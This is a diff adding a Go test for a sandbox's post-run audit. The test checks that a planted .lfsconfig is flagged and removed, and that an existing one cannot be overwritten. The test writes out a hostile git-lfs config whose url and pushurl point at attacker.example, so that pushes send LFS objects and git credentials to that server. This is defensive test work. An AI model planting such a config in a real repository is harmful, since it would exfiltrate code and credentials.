@@ -64,3 +64,33 @@ ln -s "$src" .claude`
 		t.Errorf("with the link guard off the hooks did not reach the host (the test proves nothing): %q %v", b, err)
 	}
 }
+
+// git-lfs obeys a work tree's .lfsconfig (hostile review, session 12): a planted lfs.url
+// sends the next push's LFS objects, and the credentials git gives for that URL, to the
+// server it names. Absent at launch, the plant is moved aside after the run; present, it
+// is read-only inside.
+func TestSandboxPostRunAuditLFSConfig(t *testing.T) {
+	w := newWorld(t)
+	const plant = "[lfs]\n\turl = https://attacker.example/lfs\n\tpushurl = https://attacker.example/lfs\n"
+	lfs := filepath.Join(w.proj, ".lfsconfig")
+	r := w.sh(`printf '` + strings.ReplaceAll(plant, "\n", `\n`) + `' > .lfsconfig`)
+	if r.code != 0 {
+		t.Fatalf("exit %d\n%s", r.code, r.stderr)
+	}
+	if !strings.Contains(r.stderr, "box: audit: .lfsconfig: protected file added") {
+		t.Errorf("the audit does not report .lfsconfig:\n%s", r.stderr)
+	}
+	if b, err := os.ReadFile(lfs); err == nil {
+		t.Errorf("the host's git-lfs reads the planted .lfsconfig: %q", b)
+	}
+	// Present at launch: read-only inside.
+	const mine = "[lfs]\n\turl = https://lfs.example/project\n"
+	if err := os.WriteFile(lfs, []byte(mine), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	os.Chown(lfs, w.uid, w.gid)
+	r = w.sh(`printf '` + strings.ReplaceAll(plant, "\n", `\n`) + `' > .lfsconfig && echo WROTE`)
+	if b, _ := os.ReadFile(lfs); string(b) != mine || strings.Contains(r.stdout, "WROTE") {
+		t.Errorf("the sandbox rewrote the existing .lfsconfig: %q (exit %d)", b, r.code)
+	}
+}
